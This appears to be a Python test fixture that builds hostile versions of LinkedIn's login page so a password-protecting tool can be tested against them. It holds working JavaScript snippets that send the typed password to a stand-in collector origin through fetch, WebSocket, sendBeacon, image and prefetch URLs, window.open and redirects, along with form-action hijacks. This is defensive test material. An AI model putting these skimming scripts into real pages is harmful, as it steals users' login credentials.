"""Hostile login pages: LinkedIn's classic login page, altered to hand the password to another origin.

They model what a look-alike page, an injected script or a tampered form could do, so the tests
can show that the tool refuses each one and that the other origin receives nothing. Each trap
names its other origin (`SiteState.trap_origin`, in the tests a second fixture site).
"""

from __future__ import annotations

from checker.fixture_site import urls
from checker.fixture_site.templates import Html, tag

TRAPS = frozenset(
    {
        "navigate_after_email",  # the page swaps itself for a look-alike once the email is in
        "navigate_on_password_focus",  # ... once the password field gets focus
        "form_posts_elsewhere",  # the form's action is on the other origin
        "button_formaction_elsewhere",  # the Sign in button's formaction is
        "password_in_frame",  # the password field sits in a same-origin frame posting elsewhere
        "script_sends_password",  # a script posts the password field's value to the other origin
        # The page's own script again, by every other channel a browser offers:
        "websocket_sends_password",  # a WebSocket opened with the page, sent the value on each input
        "websocket_url_carries_password",  # a WebSocket opened on input, the value in its URL
        "beacon_on_change",  # navigator.sendBeacon once the value is committed
        "beacon_on_pagehide",  # ... as the page unloads after the click
        "keepalive_on_pagehide",  # a keepalive fetch as the page unloads
        "image_carries_password",  # an <img> whose address carries the value
        "prefetch_carries_password",  # a <link rel=prefetch> whose address carries it
        "window_open_with_password",  # a new window opened at an address that carries it
        "location_with_password",  # the page itself sent to such an address
    }
)

# What the other origin's collector (`COLLECT`) receives is kept in `SiteState.collected`.
COLLECT = "/collect"

FRAME_PATH = urls.LOGIN + "/frame"


def _script(body: str) -> Html:
    fields = "const [username, password] = ['username', 'password'].map((id) => document.getElementById(id));"
    add_link = (
        "const addLink = (rel, href) => { const link = document.createElement('link'); "
        "Object.assign(link, {rel, href}); document.head.append(link); };"
    )
    return Html(f"<script>(() => {{ {fields} {add_link} {body} }})();</script>")


def classic_slots(trap: str | None, trap_origin: str) -> dict[str, str]:
    """What the trap changes in the classic login template: the slots it overrides."""
    elsewhere = trap_origin + urls.LOGIN_SUBMIT
    look_alike = trap_origin + urls.LOGIN
    if trap == "form_posts_elsewhere":
        return {"action": elsewhere}
    if trap == "button_formaction_elsewhere":
        return {"submit_extra": Html(f' formaction="{elsewhere}"')}
    if trap == "password_in_frame":
        frame = tag("iframe", src=FRAME_PATH, title="password", style="border:0;height:6rem")
        return {"password_part": frame}
    if trap == "navigate_after_email":
        watch = "document.getElementById('username')"
        return {
            "after_form": _script(
                f"{watch}.addEventListener('input', () => location.assign('{look_alike}'));"
            )
        }
    if trap == "navigate_on_password_focus":
        watch = "document.getElementById('password')"
        return {
            "after_form": _script(
                f"{watch}.addEventListener('focus', () => location.assign('{look_alike}'));"
            )
        }
    if trap in _CHANNELS:
        collect = trap_origin + COLLECT
        script = _CHANNELS[trap].format(
            collect=f"'{collect}'",
            carrying=f"'{collect}?p=' + encodeURIComponent(password.value)",
            socket="'ws" + collect.removeprefix("http") + "'",
        )
        return {"after_form": _script(script)}
    return {}


# Each channel's script, with {collect}: the collector's address, {carrying}: that address with
# the password in its query, {socket}: the collector's ws:// address (all JS expressions).
_CHANNELS = {
    "script_sends_password": (
        "password.addEventListener('input', () => fetch({collect}, "
        "{{method: 'POST', mode: 'no-cors', body: password.value}}));"
    ),
    "websocket_sends_password": (
        "const socket = new WebSocket({socket});"
        "password.addEventListener('input', () => {{ "
        "if (socket.readyState === 1) socket.send(password.value); }});"
    ),
    "websocket_url_carries_password": (
        "password.addEventListener('input', () => new WebSocket({socket} + '?p=' + "
        "encodeURIComponent(password.value)));"
    ),
    "beacon_on_change": (
        "password.addEventListener('change', () => navigator.sendBeacon({collect}, password.value));"
    ),
    "beacon_on_pagehide": (
        "addEventListener('pagehide', () => navigator.sendBeacon({collect}, password.value));"
    ),
    "keepalive_on_pagehide": (
        "addEventListener('pagehide', () => fetch({collect}, "
        "{{method: 'POST', mode: 'no-cors', keepalive: true, body: password.value}}));"
    ),
    "image_carries_password": (
        "password.addEventListener('input', () => {{ new Image().src = {carrying}; }});"
    ),
    "prefetch_carries_password": (
        "password.addEventListener('input', () => addLink('prefetch', {carrying}));"
    ),
    "window_open_with_password": "password.addEventListener('change', () => window.open({carrying}));",
    "location_with_password": "password.addEventListener('input', () => location.assign({carrying}));",
}
